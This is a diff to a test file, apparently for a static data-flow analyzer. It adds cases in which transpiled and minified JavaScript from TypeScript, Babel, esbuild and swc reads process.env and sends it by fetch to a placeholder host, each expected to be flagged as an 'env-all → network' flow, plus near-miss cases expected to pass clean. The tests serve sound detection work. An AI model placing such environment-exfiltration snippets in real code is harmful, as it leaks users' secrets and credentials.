@@ -4,6 +4,49 @@ import { flows, type Source } from '../../support/javascript.ts'
 const away = 'https://collect.example.invalid/in'
 const host = 'collect.example.invalid'
 
+/** Async functions, generators and classes as compilers write them for engines that know none. */
+const compiled: readonly (readonly [compiler: string, code: Source, flow: string])[] = [
+  ['TypeScript, ES2015', `var __awaiter = (this && this.__awaiter) || function (o, a, P, g) { return new (P || (P = Promise))(function (y, n) { (g = g.apply(o, a || [])).next() }) }
+function all() { return __awaiter(this, void 0, void 0, function* () { return process.env }) }
+function run() { return __awaiter(this, void 0, void 0, function* () { const e = yield all(); yield fetch('${away}', { body: JSON.stringify(e) }) }) }
+run()`, 'env-all → network'],
+  ['TypeScript, ES5', `function all() { return tslib_1.__awaiter(this, void 0, void 0, function () { return tslib_1.__generator(this, function (_a) { return [2 /*return*/, process.env] }) }) }
+function run() { return tslib_1.__awaiter(this, void 0, void 0, function () { var e; return tslib_1.__generator(this, function (_a) { switch (_a.label) {
+  case 0: return [4 /*yield*/, all()]
+  case 1: e = _a.sent(); return [4 /*yield*/, fetch('${away}', { body: JSON.stringify(e) })]
+  case 2: _a.sent(); return [2 /*return*/] } }) }) }
+run()`, 'env-all → network'],
+  ['TypeScript, ES5, minified', `function l(){return o(this,void 0,void 0,function(){return i(this,function(t){return[2,process.env]})})}!function(){o(this,void 0,void 0,function(){var e;return i(this,function(t){switch(t.label){case 0:return[4,l()];case 1:return e=t.sent(),[4,fetch('${away}',{body:JSON.stringify(e)})];case 2:return t.sent(),[2]}})})}()`, 'env-all → network'],
+  ['Babel', `function all() { return _all.apply(this, arguments) }
+function _all() { _all = _asyncToGenerator(_regenerator().m(function _callee() { return _regenerator().w(function (_context) { while (1) switch (_context.n) { case 0: return _context.a(2, process.env) } }, _callee) })); return _all.apply(this, arguments) }
+function run() { return _run.apply(this, arguments) }
+function _run() { _run = _asyncToGenerator(_regenerator().m(function _callee2() { var e; return _regenerator().w(function (_context2) { while (1) switch (_context2.n) {
+  case 0: _context2.n = 1; return all()
+  case 1: e = _context2.v; _context2.n = 2; return fetch('${away}', { body: JSON.stringify(e) })
+  case 2: return _context2.a(2) } }, _callee2) })); return _run.apply(this, arguments) }
+run()`, 'env-all → network'],
+  ['Babel before 7.27', `var all = (0, _asyncToGenerator2.default)(regeneratorRuntime.mark(function _callee() { return regeneratorRuntime.wrap(function _callee$(_context) { while (1) switch (_context.prev = _context.next) { case 0: return _context.abrupt('return', process.env); case 1: case 'end': return _context.stop() } }, _callee) }))
+regeneratorRuntime.mark(function _callee2() { var e; return regeneratorRuntime.wrap(function _callee2$(_context2) { while (1) switch (_context2.prev = _context2.next) {
+  case 0: _context2.next = 2; return all()
+  case 2: e = _context2.sent; _context2.next = 5; return fetch('${away}', { body: JSON.stringify(e) })
+  case 5: case 'end': return _context2.stop() } }, _callee2) })`, 'env-all → network'],
+  ['esbuild', `var __async = (a, b, g) => new Promise((y, n) => { var step = x => x.done ? y(x.value) : Promise.resolve(x.value).then(step); step((g = g.apply(a, b)).next()) })
+class A { all() { return __async(this, null, function* () { return process.env }) } run() { return __async(this, null, function* () { const e = yield this.all(); return fetch('${away}', { body: JSON.stringify(e) }) }) } }
+new A().run()`, 'env-all → network'],
+  ['swc', `class A { all() { return _async_to_generator(function* () { return process.env })() } run() { return _async_to_generator(function* () { const e = yield this.all(); return fetch('${away}', { body: JSON.stringify(e) }) }).call(this) } }`, 'env-all → network'],
+  ['swc, ES5', `var A = function () { function A() { _class_call_check._(this, A) } _create_class._(A, [{ key: 'all', value: function all() { return process.env } }, { key: 'run', value: function run() { fetch('${away}', { body: JSON.stringify(this.all()) }) } }]); return A }()
+new A().run()`, 'env-all → network'],
+  ['Babel, classes', `var A = function () { return _createClass(function A() {}, [{ key: 'x', value: 1 }]) }()
+var B = function () { function B() {} return _createClass(B, [{ key: 'all', value: function () { var _all = _asyncToGenerator(_regenerator().m(function _callee() { return _regenerator().w(function (_context) { while (1) switch (_context.n) { case 0: return _context.a(2, process.env) } }, _callee) })); return function all() { return _all.apply(this, arguments) } }() },
+  { key: 'run', value: function run() { fetch('${away}', { body: JSON.stringify(this.all()) }) } }]) }()`, 'env-all → network'],
+  ['prototypes', `function A() {} A.prototype.all = function () { return process.env }; A.prototype.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }; new A().run()`, 'env-all → network'],
+  ['prototypes by another name', `function A() {} var p = A.prototype; p.all = function () { return process.env }; p.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }; new A().run()`, 'env-all → network'],
+  ['a base class of old engines', `function B() {} B.prototype.all = function () { return process.env }; function A() {} _inherits(A, B); A.prototype.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }`, 'env-all → network'],
+  ['generators, ES5', `function parts() { var k; return _ts_generator(this, function (s) { switch (s.label) { case 0: return [4, process.env]; case 1: s.sent(); return [2] } }) } fetch('${away}', { body: JSON.stringify(_to_consumable_array(parts())) })`, 'env-all → network'],
+  ['objects put together', `var o = _objectSpread(_objectSpread({}, { a: 1 }), process.env); fetch('${away}', { body: JSON.stringify(o) })`, 'env-all → network'],
+  ['none: super', `class B { constructor(u) { this.u = u } send(d) { fetch(this.u, { body: JSON.stringify(d) }) } } class A extends B { run() { super.send(process.env) } } new A('${away}').run()`, 'env-all → network'],
+]
+
 const secrets: readonly (readonly [code: Source, flow: string])[] = [
   [`const send = x => fetch('${away}', { body: x }); const m = new Map([['a', send]]); const f = m.get(word); f && f.call(null, JSON.stringify(process.env))`, 'env-all → network'],
   [`class A { constructor() { this.t = { s: this.s } } s(x) { fetch('${away}', { body: x }) } go(k) { const f = this.t[k]; f(JSON.stringify(process.env)) } }`, 'env-all → network'],
@@ -167,6 +210,17 @@ const title = (source: Source): string => typeof source === 'string' ? source : 
 
 describe('what leaves is found', () => {
   test.each(secrets.map(([source, flow]) => [title(source), source, flow] as const))('%s', async (_, source, flow) => expect(await flows(source)).toContain(flow))
+})
+
+describe('compiled code says what its source said', () => {
+  test.each(compiled)('%s', async (_, source, flow) => expect(await flows(source)).toContain(flow))
+
+  test.each([
+    ['what was waited for elsewhere', `tslib_1.__awaiter(this, void 0, void 0, function () { var e, f; return tslib_1.__generator(this, function (_a) { switch (_a.label) { case 0: return [4, read()]; case 1: f = _a.sent(); return [4, fetch('${away}', { body: f })]; case 2: e = process.env; return [2] } }) })`],
+    ['jumps are no waiting', `tslib_1.__generator(this, function (s) { switch (s.label) { case 0: e = process.env; return [3, 1]; case 1: fetch('${away}', { body: s.sent() }); return [2] } })`],
+    ['a member called sent', `const mail = { sent: 1 }; const e = process.env; fetch('${away}', { body: JSON.stringify(mail.sent) })`],
+    ['another class with the same method', `function A() {} A.prototype.all = function () { return process.env }; function B() {} B.prototype.all = function () { return 1 }; B.prototype.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }`],
+  ])('and no more: %s', async (_, code) => expect(await flows(code)).toEqual([]))
 })
 
 describe('what is run is found', () => {
